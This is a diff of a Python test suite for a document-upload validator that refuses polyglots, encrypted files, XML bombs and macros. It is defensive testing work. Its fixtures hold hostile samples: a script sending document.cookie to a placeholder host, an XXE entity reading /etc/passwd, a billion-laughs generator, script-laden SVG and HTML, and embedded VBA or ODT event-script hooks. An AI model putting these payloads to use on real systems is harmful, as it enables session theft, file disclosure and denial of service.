@@ -23,6 +23,7 @@ from regionet.applications.uploads import (
     detect_kind,
     sanitise_filename,
 )
+from tests.factories.documents import make_pdf, ole_file, padded_pdf, vba_project
 
 MB = 1024 * 1024
 DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
@@ -41,32 +42,6 @@ def english():
     language an earlier test left active."""
     with translation.override("en"):
         yield
-
-
-def make_pdf(text: str = "Hankesuunnitelma") -> bytes:
-    """A minimal valid PDF of one page with ``text``, with a correct cross-reference table."""
-    stream = b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text.encode("latin-1")
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
-        b" /Resources << /Font << /F1 5 0 R >> >> >>",
-        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-    ]
-    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-    offsets = []
-    for number, body in enumerate(objects, start=1):
-        offsets.append(len(pdf))
-        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    xref = len(pdf)
-    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
-        len(objects) + 1,
-        xref,
-    )
-    return bytes(pdf)
 
 
 def make_zip(members, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
@@ -124,37 +99,39 @@ def make_docx(**kwargs) -> bytes:
 
 
 def make_xlsx() -> bytes:
+    return make_zip(xlsx_members())
+
+
+def xlsx_members() -> dict:
     main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
     relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-    return make_zip(
-        {
-            "[Content_Types].xml": content_types(
-                ("/xl/workbook.xml", EXCEL_MAIN),
-                (
-                    "/xl/worksheets/sheet1.xml",
-                    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
-                ),
+    return {
+        "[Content_Types].xml": content_types(
+            ("/xl/workbook.xml", EXCEL_MAIN),
+            (
+                "/xl/worksheets/sheet1.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
             ),
-            "_rels/.rels": package_rels("xl/workbook.xml"),
-            "xl/workbook.xml": (
-                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-                f'<workbook xmlns="{main}" xmlns:r="{relationships}"><sheets>'
-                f'<sheet name="Budjetti" sheetId="1" r:id="rId1"/></sheets></workbook>'
-            ).encode(),
-            "xl/_rels/workbook.xml.rels": (
-                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-                b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
-                b'/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
-                b"</Relationships>"
-            ),
-            "xl/worksheets/sheet1.xml": (
-                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-                f'<worksheet xmlns="{main}"><sheetData><row r="1">'
-                f'<c r="A1"><v>7000000</v></c></row></sheetData></worksheet>'
-            ).encode(),
-        }
-    )
+        ),
+        "_rels/.rels": package_rels("xl/workbook.xml"),
+        "xl/workbook.xml": (
+            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            f'<workbook xmlns="{main}" xmlns:r="{relationships}"><sheets>'
+            f'<sheet name="Budjetti" sheetId="1" r:id="rId1"/></sheets></workbook>'
+        ).encode(),
+        "xl/_rels/workbook.xml.rels": (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
+            b'/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
+            b"</Relationships>"
+        ),
+        "xl/worksheets/sheet1.xml": (
+            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            f'<worksheet xmlns="{main}"><sheetData><row r="1">'
+            f'<c r="A1"><v>7000000</v></c></row></sheetData></worksheet>'
+        ).encode(),
+    }
 
 
 ODT_MANIFEST = (
@@ -254,7 +231,7 @@ def on_disk(name: str, content: bytes) -> TemporaryUploadedFile:
 
 
 def test_the_hash_and_size_are_of_the_whole_content_read_in_chunks():
-    content = b"%PDF-1.7\n" + bytes(range(256)) * 800 + b"\n%%EOF\n"
+    content = padded_pdf(204_816)
     with on_disk("iso.pdf", content) as file:
         checked = check_upload(file)
         assert file.tell() == 0
@@ -301,9 +278,17 @@ def test_the_safe_name_ends_in_the_canonical_extension(name, safe_name):
     assert check_upload(file).safe_name == safe_name
 
 
-def test_a_pdf_with_a_preamble_and_trailing_bytes_is_accepted():
-    content = b"\xef\xbb\xbf" + make_pdf() + b"\r\n\x00\x00"
+def test_a_pdf_with_trailing_bytes_is_accepted():
+    # Some programs pad the file after the end marker; a PDF reader opens it.
+    content = make_pdf() + b"\r\n" + b"\x00" * 1024
     assert detect_kind(io.BytesIO(content)) == "pdf"
+
+
+def test_a_pdf_behind_a_preamble_is_not_a_pdf():
+    """Readers that look for the header in the first kilobyte would open it, but so would a
+    browser or a shell whatever comes first: the file is what its first bytes say."""
+    content = b"\xef\xbb\xbf" + make_pdf()
+    assert detect_kind(io.BytesIO(content)) is None
 
 
 def test_detect_kind_rewinds_the_file():
@@ -322,8 +307,8 @@ def test_a_pdf_named_docx_is_refused_as_a_name_mismatch():
 
     assert raised.value.code == "name_mismatch"
     assert raised.value.messages == [
-        "The file's content is not what its name says: the name ends in .docx, "
-        "but the content is PDF. Rename the file or choose the right one."
+        "The content of the file Hankesuunnitelma.docx is not what its name says: the name "
+        "ends in .docx, but the content is PDF. Rename the file or choose the right one."
     ]
 
 
@@ -342,9 +327,7 @@ def test_documents_of_another_kind_are_name_mismatches(name, build):
         pytest.param(
             b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", id="html"
         ),
-        pytest.param(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", id="pdf-without-eof"),
         pytest.param(b" " * 1024 + make_pdf(), id="pdf-magic-after-1024-bytes"),
-        pytest.param(make_pdf() + b"\x00" * 1024, id="eof-not-near-the-end"),
         pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, id="legacy-doc"),
         pytest.param(make_zip({"README.txt": b"hello"}), id="plain-zip"),
         pytest.param(make_zip({"[Content_Types].xml": content_types()}), id="ooxml-no-main"),
@@ -371,7 +354,86 @@ def test_content_that_is_no_allowed_document_is_refused(content):
 
     assert raised.value.code == "unsupported_type"
     assert raised.value.messages == [
-        "The file is not a PDF, Word (DOCX), Excel (XLSX) or OpenDocument text (ODT) file."
+        "The file liite.pdf is not a PDF, Word (DOCX), Excel (XLSX) or OpenDocument text (ODT) "
+        "file."
+    ]
+
+
+HTML_WITH_PDF_MARKERS = (
+    b"<!DOCTYPE html><html><head><title>%PDF-1.7</title></head>"
+    b"<body><script>document.location='https://example.invalid/'+document.cookie</script>"
+    b"</body></html>\n%%EOF\n"
+)
+PROGRAM_WITH_PDF_MARKERS = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 48
+    + b"%PDF-1.7\n"
+    + b"PE\x00\x00" * 100
+    + b"\n%%EOF\n"
+)
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<!-- %PDF-1.7 --><script>alert(document.domain)</script></svg>\n<!-- %%EOF -->\n"
+)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(HTML_WITH_PDF_MARKERS, id="html-with-pdf-markers"),
+        pytest.param(PROGRAM_WITH_PDF_MARKERS, id="program-with-pdf-markers"),
+        pytest.param(SVG_WITH_SCRIPT, id="svg-with-script"),
+        # A whole valid PDF behind the page or the program: a polyglot.
+        pytest.param(b"<html><script>alert(1)</script>" + make_pdf(), id="html-then-pdf"),
+        pytest.param(PROGRAM_WITH_PDF_MARKERS[:64] + make_pdf(), id="program-then-pdf"),
+    ],
+)
+def test_pages_programs_and_images_that_carry_pdf_markers_are_refused(content):
+    with pytest.raises(ValidationError) as raised:
+        check_upload(upload("Hankesuunnitelma.pdf", content))
+
+    assert raised.value.code == "unsupported_type"
+    assert raised.value.messages == [
+        "The file Hankesuunnitelma.pdf is not a PDF, Word (DOCX), Excel (XLSX) or "
+        "OpenDocument text (ODT) file."
+    ]
+
+
+UNREADABLE = (
+    "The file {name} could not be opened: it is damaged, or built in a way that is not "
+    "accepted. Save it again in the program that made it and upload the new copy."
+)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", id="no-end"),
+        pytest.param(b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", id="no-root"),
+        pytest.param(b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n", id="html"),
+        pytest.param(make_pdf()[:400], id="truncated"),
+        pytest.param(
+            make_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"), id="no-page"
+        ),
+    ],
+)
+def test_a_pdf_that_does_not_open_is_refused_naming_the_file(content):
+    with pytest.raises(ValidationError) as raised:
+        check_upload(upload("Hankesuunnitelma.pdf", content))
+
+    assert raised.value.code == "unreadable"
+    assert raised.value.messages == [UNREADABLE.format(name="Hankesuunnitelma.pdf")]
+
+
+def test_the_refusal_is_in_the_users_language():
+    with translation.override("fi"):
+        with pytest.raises(ValidationError) as raised:
+            check_upload(upload("liite.pdf", b"%PDF-1.7\n%%EOF\n"))
+        messages = raised.value.messages
+
+    assert messages == [
+        "Tiedostoa liite.pdf ei voitu avata: se on vioittunut tai tehty tavalla, jota ei "
+        "hyväksytä. Tallenna se uudelleen ohjelmalla, jolla se on tehty, ja lataa uusi kopio."
     ]
 
 
@@ -379,15 +441,13 @@ def test_an_empty_file_is_refused():
     with translation.override("en"), pytest.raises(ValidationError) as raised:
         check_upload(upload("tyhjä.pdf", b""))
 
-    assert (raised.value.code, raised.value.messages) == ("empty", ["The file is empty."])
+    assert (raised.value.code, raised.value.messages) == (
+        "empty",
+        ["The file tyhjä.pdf is empty."],
+    )
 
 
 # --- Size --------------------------------------------------------------------------------
-
-
-def padded_pdf(size: int) -> bytes:
-    head, tail = b"%PDF-1.7\n", b"\n%%EOF\n"
-    return head + b"\x00" * (size - len(head) - len(tail)) + tail
 
 
 def test_exactly_the_default_limit_is_accepted_and_one_byte_more_refused(settings):
@@ -400,7 +460,7 @@ def test_exactly_the_default_limit_is_accepted_and_one_byte_more_refused(setting
     with translation.override("en"), pytest.raises(ValidationError) as raised:
         check_upload(upload("iso.pdf", padded_pdf(20 * MB + 1)))
     assert raised.value.code == "too_large"
-    assert raised.value.messages == ["The file is too large: 20.1 MB. The limit is 20 MB."]
+    assert raised.value.messages == ["The file iso.pdf is too large: 20.1 MB. The limit is 20 MB."]
 
 
 def test_the_message_names_the_size_and_the_limit_in_megabytes():
@@ -410,7 +470,7 @@ def test_the_message_names_the_size_and_the_limit_in_megabytes():
     with translation.override("en"), pytest.raises(ValidationError) as raised:
         check_upload(file)
 
-    assert raised.value.messages == ["The file is too large: 25.3 MB. The limit is 20 MB."]
+    assert raised.value.messages == ["The file iso.pdf is too large: 25.3 MB. The limit is 20 MB."]
 
 
 def test_the_size_in_the_message_uses_the_languages_decimal_separator(settings):
@@ -421,7 +481,7 @@ def test_the_size_in_the_message_uses_the_languages_decimal_separator(settings):
     with translation.override("fi"), pytest.raises(ValidationError) as raised:
         check_upload(file)
 
-    assert raised.value.params == {"size": "2,3", "limit": "1,5"}
+    assert raised.value.params == {"name": "iso.pdf", "size": "2,3", "limit": "1,5"}
 
 
 def test_the_setting_sets_the_limit(settings):
@@ -456,7 +516,8 @@ def test_a_member_that_unpacks_more_than_a_hundredfold_is_a_bomb():
 
     assert raised.value.code == "archive_bomb"
     assert raised.value.messages == [
-        "The file was not accepted: its packed content unpacks to an unusually large size."
+        "The file pommi.docx was not accepted: its packed content unpacks to an unusually "
+        "large size."
     ]
 
 
@@ -488,6 +549,132 @@ def test_too_many_members_is_a_bomb(monkeypatch):
     assert error_code(upload("osat.docx", make_zip(members))) == "archive_bomb"
 
 
+def billion_laughs(root: bytes) -> bytes:
+    """An XML part whose entities expand to 10⁹ copies of "lol" (and ``root`` around them)."""
+    entities = [b'<!ENTITY lol0 "lol">'] + [
+        b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
+    ]
+    return (
+        b'<?xml version="1.0"?>\n<!DOCTYPE root ['
+        + b"".join(entities)
+        + b"]>\n"
+        + root.replace(b"></", b">&lol9;</", 1)
+    )
+
+
+EXTERNAL_ENTITY = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b"<w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "members"),
+    [
+        (
+            "pommi.docx",
+            {**docx_members(), "word/document.xml": billion_laughs(WORD_DOCUMENT.split(b"\n")[1])},
+        ),
+        (
+            "pommi.xlsx",
+            {
+                **xlsx_members(),
+                "[Content_Types].xml": billion_laughs(
+                    xlsx_members()["[Content_Types].xml"].split(b"\n")[1]
+                ),
+            },
+        ),
+        (
+            "pommi.odt",
+            {**odt_members(), "content.xml": billion_laughs(ODT_CONTENT.split(b"\n")[1])},
+        ),
+        ("ulkoinen.docx", {**docx_members(), "word/document.xml": EXTERNAL_ENTITY}),
+    ],
+    ids=["docx-main-part", "xlsx-content-types", "odt-content", "external-entity"],
+)
+def test_xml_bombs_and_external_entities_are_refused(name, members):
+    with pytest.raises(ValidationError) as raised:
+        check_upload(upload(name, make_zip(members)))
+
+    assert raised.value.code == "unreadable"
+    assert raised.value.messages == [UNREADABLE.format(name=name)]
+
+
+@pytest.mark.parametrize(
+    ("name", "build"),
+    [
+        (
+            "rikki.docx",
+            lambda: make_zip({**docx_members(), "word/document.xml": WORD_DOCUMENT[:-30]}),
+        ),
+        (
+            "rikki.docx",
+            lambda: make_zip(
+                {**docx_members(), "word/document.xml": b"<html><body>Hei</body></html>"}
+            ),
+        ),
+        (
+            "rikki.docx",
+            lambda: make_zip({k: v for k, v in docx_members().items() if k != "_rels/.rels"}),
+        ),
+        (
+            "rikki.docx",
+            lambda: make_zip({**docx_members(), "_rels/.rels": package_rels("word/muu.xml")}),
+        ),
+        (
+            # A damaged member: its checksum does not match.
+            "rikki.docx",
+            lambda: make_zip(docx_members(), compression=zipfile.ZIP_STORED).replace(
+                b"<w:t>Hankesuunnitelma", b"<w:t>Hankesuunnitelmx"
+            ),
+        ),
+        (
+            "rikki.xlsx",
+            lambda: make_zip({**xlsx_members(), "xl/workbook.xml": WORD_DOCUMENT}),
+        ),
+        ("rikki.odt", lambda: make_zip({**odt_members(), "content.xml": b"\x89PNG\r\n"})),
+        (
+            "rikki.odt",
+            lambda: make_zip(
+                {k: v for k, v in odt_members().items() if k != "META-INF/manifest.xml"}
+            ),
+        ),
+    ],
+    ids=[
+        "docx-truncated-xml",
+        "docx-main-part-not-word",
+        "docx-no-relationships",
+        "docx-relationship-elsewhere",
+        "docx-bad-checksum",
+        "xlsx-main-part-not-excel",
+        "odt-content-not-xml",
+        "odt-no-manifest",
+    ],
+)
+def test_a_package_that_does_not_open_is_refused_naming_the_file(name, build):
+    with pytest.raises(ValidationError) as raised:
+        check_upload(upload(name, build()))
+
+    assert raised.value.code == "unreadable"
+    assert raised.value.messages == [UNREADABLE.format(name=name)]
+
+
+def office_encrypted(document: bytes) -> bytes:
+    """The document as Office saves it with the password to open "salasana" (ECMA-376
+    agile encryption, written by msoffcrypto-tool)."""
+    from msoffcrypto.format.ooxml import OOXMLFile
+
+    encrypted = io.BytesIO()
+    OOXMLFile(io.BytesIO(document)).encrypt("salasana", encrypted)
+    return encrypted.getvalue()
+
+
+def test_a_legacy_office_file_without_a_password_is_no_allowed_document():
+    document = ole_file({"WordDocument": b"\xec\xa5" + b"\x00" * 100})
+    assert error_code(upload("vanha.doc", document)) == "unsupported_type"
+
+
 @pytest.mark.parametrize(
     ("name", "build"),
     [
@@ -506,19 +693,11 @@ def test_too_many_members_is_a_bomb(monkeypatch):
                 }
             ),
         ),
-        (
-            # A DOCX saved with a password to open is an OLE file around the encrypted ZIP.
-            "salainen.docx",
-            # The stream's name straddles two 64 kB reads.
-            lambda: (
-                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
-                + b"\x00" * (65_536 - 8 - 10)
-                + "EncryptedPackage".encode("utf-16-le")
-                + b"\x00" * 1000
-            ),
-        ),
+        # A DOCX saved with a password to open is an OLE file around the encrypted ZIP.
+        ("salainen.docx", lambda: office_encrypted(make_docx())),
+        ("salainen.xlsx", lambda: office_encrypted(make_xlsx())),
     ],
-    ids=["zip-member", "odt-member", "odf-manifest", "office-password"],
+    ids=["zip-member", "odt-member", "odf-manifest", "docx-password", "xlsx-password"],
 )
 def test_encrypted_documents_are_refused(name, build):
     with translation.override("en"), pytest.raises(ValidationError) as raised:
@@ -526,7 +705,7 @@ def test_encrypted_documents_are_refused(name, build):
 
     assert raised.value.code == "encrypted"
     assert raised.value.messages == [
-        "The file is password-protected or encrypted, so it cannot be read. "
+        f"The file {name} is password-protected or encrypted, so it cannot be read. "
         "Save a copy without a password and upload that."
     ]
 
@@ -582,8 +761,60 @@ VBA = "application/vnd.ms-office.vbaProject"
             },
         ),
         ("makrot.odt", {**odt_members(), "Scripts/python/run.py": b"import os"}),
+        (
+            "makrot.docx",
+            {
+                **docx_members(extra_types=[("/word/vbaProject.bin", VBA)]),
+                "word/vbaProject.bin": vba_project(),
+            },
+        ),
+        # Office finds the project by a relationship, whatever the part's name.
+        ("makrot.docx", {**docx_members(), "word/media/image1.png": vba_project()}),
+        ("makrot.xlsx", {**xlsx_members(), "xl/printerSettings1.bin": vba_project()}),
+        ("makrot.odt", {**odt_members(), "Object 1/Ole10Native": vba_project()}),
+        (
+            "makrot.odt",
+            {
+                **odt_members(),
+                "content.xml": ODT_CONTENT.replace(
+                    b"<office:body>",
+                    b'<office:scripts xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
+                    b'script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
+                    b'<office:event-listeners><script:event-listener script:language="ooo:script"'
+                    b' script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
+                    b'Tools.Misc.Run?language=Basic&amp;location=application"/>'
+                    b"</office:event-listeners></office:scripts><office:body>",
+                ),
+            },
+        ),
+        (
+            "makrot.odt",
+            {
+                **odt_members(),
+                "content.xml": ODT_CONTENT.replace(
+                    b"<text:p>Hankesuunnitelma</text:p>",
+                    b'<text:p><text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href='
+                    b'" vnd.sun.star.script:pythonSamples|TableSample.py$createTable'
+                    b'?language=Python&amp;location=share">Avaa</text:a></text:p>',
+                ),
+            },
+        ),
     ],
-    ids=["vba-part", "docm-type", "docm", "xlsm-type", "excel4-macrosheet", "odt-basic", "odt-py"],
+    ids=[
+        "vba-part",
+        "docm-type",
+        "docm",
+        "xlsm-type",
+        "excel4-macrosheet",
+        "odt-basic",
+        "odt-py",
+        "vba-project",
+        "vba-project-renamed",
+        "vba-project-in-xlsx",
+        "vba-project-in-odt",
+        "odt-event-listener",
+        "odt-script-link",
+    ],
 )
 def test_documents_with_macros_are_refused(name, members):
     with translation.override("en"), pytest.raises(ValidationError) as raised:
@@ -591,7 +822,7 @@ def test_documents_with_macros_are_refused(name, members):
 
     assert raised.value.code == "macros"
     assert raised.value.messages == [
-        "The file contains macros, which are not accepted. "
+        f"The file {name} contains macros, which are not accepted. "
         "Save a copy without macros and upload that."
     ]
 
@@ -610,6 +841,7 @@ def test_a_main_part_typed_by_default_extension_counts():
         "[Content_Types].xml": content_types(defaults=[("xml", WORD_MAIN)]).replace(
             b'<Default Extension="xml" ContentType="application/xml"/>', b""
         ),
+        "_rels/.rels": package_rels("word/document.xml"),
         "word/document.xml": WORD_DOCUMENT,
     }
     assert detect_kind(io.BytesIO(make_zip(members))) == "docx"
@@ -793,10 +1025,10 @@ def test_the_field_returns_the_upload_with_its_check():
 
 
 def test_the_field_refuses_with_the_checks_code():
-    field = AttachmentField(max_bytes=100)
+    field = AttachmentField(max_bytes=1000)
 
     with pytest.raises(ValidationError) as raised:
-        field.clean(upload("iso.pdf", padded_pdf(101)))
+        field.clean(upload("iso.pdf", padded_pdf(1001)))
 
     assert raised.value.code == "too_large"
 
@@ -822,25 +1054,24 @@ def test_the_field_tells_the_browser_which_files_to_offer():
 def test_the_field_in_a_form_reports_the_message_in_the_users_language():
     form = AttachmentForm(files={"attachment": upload("tyhjä.pdf", b"%PDF-")})
     with translation.override("en"):
-        assert form.errors == {
-            "attachment": [
-                "The file is not a PDF, Word (DOCX), Excel (XLSX) or OpenDocument text (ODT) file."
-            ]
-        }
+        assert form.errors == {"attachment": [UNREADABLE.format(name="tyhjä.pdf")]}
 
 
 # --- Password-protected PDFs --------------------------------------------------------------
 
 
-def pypdf_document(*, password: str | None = None) -> bytes:
-    """A one-page PDF written by pypdf, encrypted with ``password`` (RC4: no extra library;
-    an empty password is an owner password only, still an encrypted file)."""
+def pypdf_document(
+    *, password: str | None = None, algorithm: str = "RC4-128", pages: int = 1
+) -> bytes:
+    """A PDF of blank pages written by pypdf, encrypted with ``password`` (an empty password
+    is an owner password only, still an encrypted file)."""
     from pypdf import PdfWriter
 
     writer = PdfWriter()
-    writer.add_blank_page(width=595, height=842)
+    for _page in range(pages):
+        writer.add_blank_page(width=595, height=842)
     if password is not None:
-        writer.encrypt(user_password=password, owner_password="omistaja", algorithm="RC4-128")
+        writer.encrypt(user_password=password, owner_password="omistaja", algorithm=algorithm)
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
@@ -866,14 +1097,11 @@ def with_xref_stream(encrypt: bool) -> bytes:
     [
         lambda: pypdf_document(password="salasana"),
         lambda: pypdf_document(password=""),
-        lambda: with_xref_stream(encrypt=True),
-        # A large document: the trailer is far from the cross-reference table's start.
-        lambda: make_pdf("x" * 200_000).replace(
-            b"trailer\n<< /Size 6 /Root 1 0 R >>",
-            b"trailer\n<< /Size 6 /Root 1 0 R /Encrypt 5 0 R >>",
-        ),
+        lambda: pypdf_document(password="salasana", algorithm="AES-256"),
+        # The trailer is far from the cross-reference table's start.
+        lambda: pypdf_document(password="salasana", pages=2000),
     ],
-    ids=["password", "owner-password-only", "xref-stream", "large"],
+    ids=["password", "owner-password-only", "aes-256", "large"],
 )
 def test_password_protected_pdfs_are_refused(build):
     with translation.override("en"), pytest.raises(ValidationError) as raised:
